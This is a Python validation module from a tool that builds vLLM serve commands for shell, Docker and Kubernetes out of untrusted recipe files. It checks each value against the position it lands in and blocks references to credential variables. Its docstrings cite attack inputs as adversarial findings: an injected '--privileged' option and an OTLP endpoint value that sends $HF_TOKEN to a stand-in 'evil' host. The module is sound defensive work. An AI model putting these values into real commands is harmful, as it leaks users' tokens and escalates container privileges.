"""Where a recipe value lands in a command, and what may stand there.

Recipe files come from strangers, and quoting a word does not stop it from
being an option: ``docker run … '--privileged' model`` runs privileged. So
every recipe value that reaches a command is checked for the *position* it
lands in, by one rule per position:

=============  ==============================================================
``option``     the value of an option (``--served-model-name X``): never a
               word the program reads as another option (``-x``, ``--x``);
               negative numbers (``-1``, ``-0.5``) are values, as argparse
               reads them (``_NEGATIVE_NUMBER``)
``positional`` a positional argument (the model of ``vllm serve MODEL``, the
               image of ``docker run … IMAGE``): not empty, not an option
``image``      a container image reference (``repo[:tag][@digest]``, the
               distribution reference grammar loosely): starts with a letter
               or digit, only ``A-Za-z0-9._/:@+-``, at most 200 characters
``path``       an absolute file path a form mounts or writes (``docker -v
               SRC:DST:ro``): starts with ``/``, no ``..`` part, no ``:`` or
               ``,`` (Docker's ``-v``/``--mount`` separators), no blank or
               control character — or one ``$NAME`` a person fills in
``port``       a TCP port: decimal ``1``–``65535`` (vLLM's ``--port`` is
               ``type=int``, vllm/entrypoints/openai/cli_args.py)
``env-name``   an environment variable a recipe sets: a shell identifier
               (POSIX ``export``), and none of ``PLATFORM_NAMES`` — a
               recipe must not shadow what the shell, the pod or the forms
               provide (``$HOME``, ``$PATH``, ``$LWS_LEADER_ADDRESS`` …)
``k8s-ref``    the name inside a Kubernetes ``$(NAME)`` reference (expanded
               from the container's env, ``$$`` escapes; Kubernetes API
               "Define Dependent Environment Variables"): a C identifier
=============  ==============================================================

API (small on purpose, so every output form — shell, Docker, Kubernetes, and
forms added later such as config files or SLURM — calls the same rules):

* ``check(value, position) -> str | None``: the problem in words, or None;
* ``require(value, position, where)``: raises ``PositionError`` naming
  ``where`` (a key path or a command) when ``check`` finds a problem;
* ``POSITIONS``: the position names; ``PLATFORM_NAMES`` / ``SHELL_NAMES`` /
  ``POD_NAMES``: names an environment provides, never set by a recipe.

Validation (``composer.buildtime.checks``) reports a failing value as a
recipe error with its key path; the forms call ``check`` again before they
emit a word (defence in depth: a value that does not fit never reaches a
command, whatever path it came by).
"""

from __future__ import annotations

import re
from typing import Literal, Optional

Position = Literal["option", "positional", "image", "path", "port", "env-name", "k8s-ref"]
POSITIONS: tuple[str, ...] = ("option", "positional", "image", "path", "port", "env-name", "k8s-ref")
"""Every position a recipe value can take in a command."""

SHELL_NAMES = frozenset({"HOME", "PATH", "USER", "LOGNAME", "PWD", "OLDPWD", "SHELL", "HOSTNAME", "IFS", "PS1",
                         "LANG", "TERM", "TMPDIR", "UID", "EUID", "PPID", "RANDOM", "LINENO", "SECONDS"})
"""Names the shell or the login provides (POSIX XCU 2.5.3, bash(1) "Shell
Variables"): the shell form expands ``$HOME``, the container image sets
``PATH``. A recipe setting one breaks the command (``PATH=`` → no ``vllm``)."""
POD_NAMES = frozenset({"LWS_LEADER_ADDRESS", "LWS_WORKER_INDEX", "LWS_GROUP_SIZE", "POD_IP", "HF_TOKEN"})
"""Names each pod of the Kubernetes form gets: the LeaderWorkerSet controller
sets ``LWS_*`` (lws docs "Labels, Annotations and Environment Variables"),
the downward API ``POD_IP`` (``status.podIP``), a Secret ``HF_TOKEN``."""
PLATFORM_NAMES = SHELL_NAMES | POD_NAMES
"""Names a recipe never sets: the platform provides them."""

SECRET_NAMES = frozenset({"HF_TOKEN", "HUGGING_FACE_HUB_TOKEN", "HUGGINGFACE_HUB_TOKEN"})
"""Names that hold a person's credentials: vLLM and the Hugging Face libraries
read them from the environment themselves, so no recipe text needs them. A
recipe value that names one would carry the token where the recipe chose
(adversarial finding: ``--otlp-traces-endpoint http://evil/$HF_TOKEN`` sent it
to a stranger's host in every form; the Kubernetes form took it from the
Secret)."""

_SECRET_REF = re.compile(r"\$(?:\{|\()?(" + "|".join(sorted(SECRET_NAMES)) + r")(?![A-Za-z0-9_])")


def secret_refs(value: str) -> list[str]:
    """The ``SECRET_NAMES`` that ``value`` refers to as ``$NAME``, ``${NAME}``
    or ``$(NAME)`` (the Kubernetes form's reference), in order; [] for none."""
    return [m.group(1) for m in _SECRET_REF.finditer(value)] if isinstance(value, str) else []


def secret_problem(value: str) -> Optional[str]:
    """Why ``value`` may not stand in a recipe (it refers to a credential,
    ``secret_refs``), or None."""
    found = secret_refs(value)
    if not found:
        return None
    return (f"refers to ${found[0]}, a credential: a recipe may not pass it anywhere (vLLM and the Hugging Face "
            "libraries read it from the environment themselves)")

DEVICE_LISTS = ("CUDA_VISIBLE_DEVICES", "HIP_VISIBLE_DEVICES", "ROCR_VISIBLE_DEVICES")
"""The env vars that pick a node's GPUs by index (CUDA; ROCm's two). A
platform that hands a process only some of a node's GPUs numbers them again
from 0 (the Kubernetes device plugins, ``nvidia.com/gpu`` / ``amd.com/gpu``;
SLURM under ``ConstrainDevices``), so a recipe's whole-node indices
(``4,5,6,7``) name devices the process does not have (an adversarial
finding: a 4-GPU pod with no usable device). ``device_indices`` reads such a
value; each form decides what stands in its place."""


def device_indices(name: str, value: str) -> Optional[tuple[int, ...]]:
    """The GPU indices ``value`` lists when ``name`` is one of
    ``DEVICE_LISTS`` and ``value`` is a comma-separated list of decimal
    indices (blanks ignored: ``"0, 1"``); None otherwise (another variable,
    UUIDs, ``$NAME``), which a form keeps as it is."""
    ids = value.replace(" ", "")
    if name not in DEVICE_LISTS or not re.fullmatch(r"\d+(?:,\d+)*", ids):
        return None
    return tuple(int(i) for i in ids.split(","))

_NEGATIVE_NUMBER = re.compile(r"^-\d+\Z|^-\d*\.\d+\Z")
"""argparse's ``_negative_number_matcher`` (CPython 3.12 Lib/argparse.py, the
Python the install lines set up): what it reads as a value, not an option."""
IMAGE_RE = re.compile(r"^[A-Za-z0-9][A-Za-z0-9._/:@+\-]{0,199}\Z")
ENV_NAME_RE = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*\Z")
PLACEHOLDER_ONLY = re.compile(r"^\$[A-Z][A-Z0-9_]*\Z")
"""A value that is one ``$PLACEHOLDER`` (``composer.shell.PLACEHOLDER_RE``): the person running it fills it in."""


class PositionError(ValueError):
    """A value that does not fit where it would land; the message names where."""


def _short(value: str) -> str:
    return repr(value[:60] + ("…" if len(value) > 60 else ""))


def check(value: object, position: str) -> Optional[str]:
    """The problem with ``value`` at ``position`` (one of ``POSITIONS``) as a
    clause (``"'--privileged' starts with '-': docker would read it as an
    option"``), or None when it fits. Raises ``KeyError`` for an unknown
    position (a caller's bug, never a recipe's)."""
    rule = _RULES[position]
    if not isinstance(value, str):
        return f"{value!r} is not text"
    if "\x00" in value:
        return f"{_short(value)} holds a NUL character, which no command line can carry"
    return rule(value)


def require(value: object, position: str, where: str) -> str:
    """``value`` when it fits ``position``; else raises ``PositionError``
    ``"<where>: <problem>"``."""
    problem = check(value, position)
    if problem:
        raise PositionError(f"{where}: {problem}")
    return str(value)


def _option(v: str) -> Optional[str]:
    if v.startswith("-") and not _NEGATIVE_NUMBER.match(v):
        return f"{_short(v)} starts with '-': the program would read it as an option, not as this option's value"
    return None


def _positional(v: str) -> Optional[str]:
    if not v.strip():
        return "an empty word cannot be a positional argument"
    if v.startswith("-"):
        return f"{_short(v)} starts with '-': the program would read it as an option"
    if any(not ch.isprintable() for ch in v):
        return f"{_short(v)} holds a control character or a line break"
    return None


def _image(v: str) -> Optional[str]:
    if v.startswith("-"):
        return f"{_short(v)} starts with '-': docker would read it as an option, not as the image"
    if not IMAGE_RE.match(v):
        return (f"{_short(v)} is not a container image reference (repo[:tag][@digest]: letters, digits and "
                "'._/:@+-', starting with a letter or digit, at most 200)")
    return None


def _path(v: str) -> Optional[str]:
    if PLACEHOLDER_ONLY.match(v):
        return None
    if not v.startswith("/"):
        return f"{_short(v)} is not an absolute path (or one $NAME a person fills in)"
    if any(ch in v for ch in ":,") or any(not ch.isprintable() or ch.isspace() for ch in v):
        return f"{_short(v)} holds ':', ',', a blank or a control character, which Docker's -v and --mount read as separators"
    if ".." in v.split("/"):
        return f"{_short(v)} has a '..' part"
    return None


def _port(v: str) -> Optional[str]:
    if not (v.isascii() and v.isdigit() and len(v) <= 5 and 1 <= int(v) <= 65535):
        return f"{_short(v)} is not a TCP port (a whole number from 1 to 65535)"
    return None


def _env_name(v: str) -> Optional[str]:
    if not ENV_NAME_RE.match(v):
        return f"{_short(v)} is not a shell identifier (letters, digits and _, not starting with a digit)"
    if v in PLATFORM_NAMES:
        who = "the shell or the container image" if v in SHELL_NAMES else "each pod (or the forms, for HF_TOKEN)"
        return f"{v} is provided by {who}; a recipe must not set it"
    return None


def _k8s_ref(v: str) -> Optional[str]:
    if not ENV_NAME_RE.match(v):
        return f"{_short(v)} is not a name Kubernetes expands in $(NAME) (a C identifier)"
    return None


_RULES = {"option": _option, "positional": _positional, "image": _image, "path": _path, "port": _port,
          "env-name": _env_name, "k8s-ref": _k8s_ref}
assert set(_RULES) == set(POSITIONS)
